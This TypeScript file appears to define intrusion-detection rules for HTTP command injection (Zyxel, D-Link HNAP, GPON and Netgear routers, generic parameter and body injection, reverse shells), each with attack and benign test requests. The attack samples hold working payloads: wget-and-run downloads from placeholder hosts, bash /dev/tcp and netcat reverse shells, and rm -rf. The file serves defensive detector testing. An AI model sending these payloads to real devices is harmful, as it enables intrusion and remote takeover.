import { commands, semicolon, space } from '../patterns.ts';
import type { Rule } from '../rule.ts';
import { http, post, withHeader } from '../traffic/http.ts';

const shared = { type: 'vulnerability', category: 'code-execution', on: 'http any any -> any any' } as const;

const zyxel = {
  ...shared,
  name: 'Zyxel Multiple Products Command Injection Vulnerability',
  severity: 'LOW',
  cves: ['CVE-2020-9054'],
  description:
    'A request to the login program of Zyxel storage and firewall devices closes the user name with a quote and adds commands. Only those devices are concerned; update their firmware.',
  references: ['https://nvd.nist.gov/vuln/detail/CVE-2020-9054'],
} as const;

const injected = "admin';cd /tmp;wget http://123.123.123.123/evil;sh evil;rm evil";
const separator = String.raw`(?:\x3b|\||\`|&&|\$\(|%0a|\n)`;

export const commandInjection: readonly Rule[] = [
  {
    ...zyxel,
    sid: 9_000_130,
    rev: 1,
    match: [
      'flow:to_server',
      'http.uri',
      'content:"/weblogin.cgi"; nocase; fast_pattern',
      String.raw`pcre:"/[?&\x3b]username=[^&]{0,64}['\x22]\s*(?:[\x3b|&\`\n]|\$\()/i"`,
    ],
    attacks: [
      http('the command of the document, raw spaces', `/weblogin.cgi?username=${injected}`),
      http('%20', `/weblogin.cgi?username=${injected.replaceAll(' ', '%20')}`),
      http('plus', `/weblogin.cgi?username=${injected.replaceAll(' ', '+')}`),
      http('quote and semicolon encoded', '/weblogin.cgi?username=admin%27%3Bcd%20/tmp%3Bwget%20http://10.9.9.9/e'),
      http('lower hexadecimal', '/weblogin.cgi?username=admin%27%3bcd+/tmp%3bsh+e'),
      http('encoded twice', '/weblogin.cgi?username=admin%2527%253Bcd%2520/tmp'),
      http('below a folder, mixed case', `/adv,/cgi-bin/WebLogin.cgi?username=${injected.replaceAll(' ', '%20')}`),
      http('letters of the path encoded', `/web%6cogin.cgi?username=${injected.replaceAll(' ', '%20')}`),
      http('a second parameter', "/weblogin.cgi?password=x&username=admin'%3bls+/"),
      http('HTTP/1.0', `/weblogin.cgi?username=${injected}`, { version: 'HTTP/1.0' }),
      http('as a form', '/weblogin.cgi?username=admin%27;ls', { body: 'x=1' }),
    ],
    benign: [
      http('an ordinary login', '/weblogin.cgi?username=admin&password=secret'),
      http('a name with an apostrophe', "/weblogin.cgi?username=O'Brien&password=x"),
      http('another program', "/login.cgi?username=admin'"),
    ],
  },
  {
    ...zyxel,
    sid: 9_000_131,
    rev: 1,
    threat: 9_000_130,
    match: [
      'flow:to_server',
      'http.uri',
      'content:"/weblogin.cgi"; nocase; fast_pattern',
      'http.request_body',
      `pcre:"/(?:^|&)username=[^&]{0,64}(?:'|%27)(?:${space})*(?:${semicolon}|\\||%7c|&&|%26|\\x60|%60|\\$\\()/i"`,
    ],
    attacks: [
      post('in a form', '/weblogin.cgi', `username=${injected}`),
      post(
        'in a form, encoded',
        '/weblogin.cgi',
        'username=admin%27%3Bcd+%2Ftmp%3Bwget+http%3A%2F%2F10.9.9.9&password=x',
      ),
    ],
    benign: [post('an ordinary login', '/weblogin.cgi', 'username=o%27neil&password=x')],
  },
  {
    ...shared,
    sid: 9_000_132,
    rev: 1,
    name: 'HTTP Command Injection in Request Parameter',
    severity: 'HIGH',
    description:
      'A parameter goes on behind a shell separator with the name of a program. If the application hands it to a shell, the program runs.',
    match: [
      'flow:to_server',
      'http.uri',
      'content:"="',
      'content:!"/weblogin.cgi"; nocase',
      `pcre:"/[?&][\\w.\\-\\[\\]]{1,64}=[^&]{0,200}${separator}\\s*(?:\\/(?:usr\\/)?s?bin\\/)?${commands}(?:${space}|<|$|\\)|\\x60|\\x3b|\\|)/i"`,
    ],
    attacks: [
      http('semicolon', '/ping?host=10.0.0.1;cat%20/var/log/syslog'),
      http('pipe', '/ping?host=10.0.0.1%7Cid'),
      http('two ampersands', '/ping?host=1%26%26whoami'),
      http('backticks', '/ping?host=%60id%60'),
      http('substitution', '/ping?host=$(curl+10.9.9.9)'),
      http('line feed', '/ping?host=1%0Auname+-a'),
      http('$IFS', '/ping?host=1;cat$IFS/var/x'),
      http('full path', '/ping?host=1;/usr/bin/id'),
      http('encoded twice', '/ping?host=1%253Bid'),
    ],
    benign: [
      http('a pipe in a search', '/search?q=ls+grep&lang=a|b'),
      http('prose with a semicolon', '/search?q=dogs;+cats+and+more'),
      http('a word that begins like a program', '/x?a=b;identity=1'),
      http('an encoded ampersand', '/x?company=Smith%26Sons'),
      http('prices', '/x?q=$(12)'),
    ],
  },
  {
    ...shared,
    sid: 9_000_138,
    rev: 1,
    threat: 9_000_132,
    name: 'HTTP Command Injection in Request Parameter',
    severity: 'HIGH',
    description:
      'A parameter goes on behind a shell separator with the name of a program, with spaces that were not encoded. If the application hands it to a shell, the program runs.',
    match: [
      'flow:to_server',
      'http.uri',
      'content:!"/weblogin.cgi"; nocase',
      'http.request_line',
      'content:"="',
      `pcre:"/^\\S+ \\S*[?&][\\w.\\-\\[\\]]{1,64}=[^&]{0,200}?(?:${semicolon}|\\||%7c|&&|%26%26) +(?:\\/(?:usr\\/)?s?bin\\/)?${commands} /i"`,
    ],
    attacks: [
      http('raw spaces', '/ping?host=10.0.0.1; wget http://10.9.9.9/x'),
      http('raw spaces behind a pipe', '/ping?host=1 | id', { version: 'HTTP/1.0' }),
      http('raw spaces behind an encoded separator', '/ping?host=1%3B cat /var/log/x'),
    ],
    benign: [http('raw spaces in a search', '/search?q=dogs; my cats and more'), http('no value', '/search?; id')],
  },
  {
    ...shared,
    sid: 9_000_133,
    rev: 1,
    threat: 9_000_132,
    name: 'HTTP Command Injection in Request Body',
    severity: 'HIGH',
    description:
      'A field of a form goes on behind a shell separator with the name of a program that fetches or runs other programs.',
    match: [
      'flow:to_server',
      'http.uri',
      'content:!"/weblogin.cgi"; nocase',
      'http.header',
      'content:"x-www-form-urlencoded"; nocase; fast_pattern',
      'http.request_body',
      `pcre:"/(?:^|&)[^=&]{1,64}=[^&]{0,200}(?:${semicolon}|\\||%7c|%26%26|&&|\\x60|%60|(?:\\$|%24)(?:\\(|%28)|%0a)(?:${space}){0,3}(?:wget|curl|tftp|busybox|bash|nc|chmod|whoami|cat|id)(?:${space}|%60|\\x60|\\)|%29|&|$)/i"`,
    ],
    attacks: [
      post('semicolon', '/diag', 'host=10.0.0.1;wget http://10.9.9.9/x'),
      post('encoded', '/diag', 'host=10.0.0.1%3Bcurl+http%3A%2F%2F10.9.9.9%2Fx'),
      post('backticks', '/diag', 'host=%60id%60&count=1'),
      post('substitution', '/diag', 'host=$(whoami)'),
    ],
    benign: [
      post('prose', '/comment', 'text=I like dogs; cats too&name=nc'),
      post('a price', '/order', 'price=$(12)&note=id|card'),
    ],
  },
  {
    ...shared,
    sid: 9_000_134,
    rev: 1,
    name: 'Reverse Shell Command in HTTP Request',
    severity: 'CRITICAL',
    category: 'code-execution',
    description:
      'A request carries a command line that opens a shell to a remote host. Look for a connection from the server to the address in the request.',
    match: [
      'flow:to_server',
      'http.uri',
      `pcre:"/(?:\\/dev\\/(?:tcp|udp)\\/[0-9a-z.\\-]{4,64}\\/\\d{1,5}|\\bn(?:c|cat|etcat)\\s+(?:-[a-z]+\\s+)*-[a-z]*[ec]\\s+\\/bin\\/|socket\\.socket\\(.{0,300}subprocess|mkfifo\\s+\\/tmp\\/)/is"`,
    ],
    attacks: [
      http('bash', '/run?c=bash%20-i%20%3E%26%20/dev/tcp/10.9.9.9/4444%200%3E%261'),
      http('netcat', '/run?c=nc+-e+/bin/sh+10.9.9.9+4444'),
      http('named pipe', '/run?c=mkfifo+/tmp/f'),
      http('python', '/run?c=python+-c+%27import+socket,subprocess;s=socket.socket();subprocess.call()%27'),
    ],
    benign: [http('documentation of the path', '/docs/dev/tcp/intro'), http('netcat options', '/search?q=nc+-z+host')],
  },
  {
    ...shared,
    sid: 9_000_135,
    rev: 1,
    threat: 9_000_134,
    name: 'Reverse Shell Command in HTTP Request',
    severity: 'CRITICAL',
    description:
      'The body of a request carries a command line that opens a shell to a remote host. Look for a connection from the server to the address in the request.',
    match: [
      'flow:to_server',
      'http.request_body',
      'content:"dev"; fast_pattern',
      `pcre:"/bash.{0,40}(?:\\/|%2f)dev(?:\\/|%2f)(?:tcp|udp)(?:\\/|%2f)[0-9a-z.\\-]{4,64}(?:\\/|%2f)\\d{1,5}/is"`,
    ],
    attacks: [
      post('plain', '/hook', 'cmd=bash -i >& /dev/tcp/10.9.9.9/4444 0>&1'),
      post('encoded', '/hook', 'cmd=bash+-i+%3E%26+%2Fdev%2Ftcp%2F10.9.9.9%2F4444+0%3E%261'),
      post('JSON', '/hook', '{"cmd":"bash -c \'exec 3<>/dev/tcp/evil.example/443\'"}', [
        'Content-Type: application/json',
      ]),
    ],
    benign: [post('a path', '/hook', 'device=/dev/tcp0&shell=bash')],
  },
  {
    ...shared,
    sid: 9_000_136,
    rev: 1,
    name: 'D-Link HNAP SOAPAction Command Injection Vulnerability',
    severity: 'HIGH',
    cves: ['CVE-2015-2051'],
    description:
      'The SOAPAction header of a request to the HNAP service holds shell syntax. D-Link routers run it as root.',
    match: [
      'flow:to_server',
      'http.header',
      'content:"purenetworks.com/HNAP1/"; nocase; fast_pattern',
      String.raw`pcre:"/^SOAPAction:[^\r\n]*HNAP1\/[^\r\n]*(?:\`|\$\(|\x3b)/mi"`,
    ],
    attacks: [
      withHeader(
        'backticks',
        'SOAPAction: http://purenetworks.com/HNAP1/`cd /tmp && wget http://10.9.9.9/a`',
        '/HNAP1/',
      ),
      withHeader('substitution', 'SOAPAction: "http://purenetworks.com/HNAP1/GetDeviceSettings/$(reboot)"', '/HNAP1/'),
    ],
    benign: [
      withHeader('an ordinary call', 'SOAPAction: "http://purenetworks.com/HNAP1/GetDeviceSettings"', '/HNAP1/'),
    ],
  },
  {
    ...shared,
    sid: 9_000_137,
    rev: 1,
    name: 'Home Router Diagnostic Page Command Injection',
    severity: 'HIGH',
    cves: ['CVE-2018-10561', 'CVE-2018-10562'],
    description:
      'A request to the diagnostic page of widespread home routers (GPON, Netgear DGN) that runs commands without a login. Worms send it everywhere; only those devices are concerned.',
    match: [
      'flow:to_server',
      'http.uri',
      String.raw`pcre:"/^\/GponForm\/diag_Form\?(?:images|script|style)\/|\/setup\.cgi\?[^\r\n]*todo=syscmd&[^\r\n]*cmd=/i"`,
    ],
    attacks: [
      post('GPON', '/GponForm/diag_Form?images/', 'XWebPageName=diag&diag_action=ping&dest_host=x'),
      http('Netgear', '/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*&curpath=/'),
    ],
    benign: [
      http('the page itself', '/GponForm/diag_Form'),
      http('an ordinary set-up', '/setup.cgi?next_file=index.htm&todo=save'),
    ],
  },
];
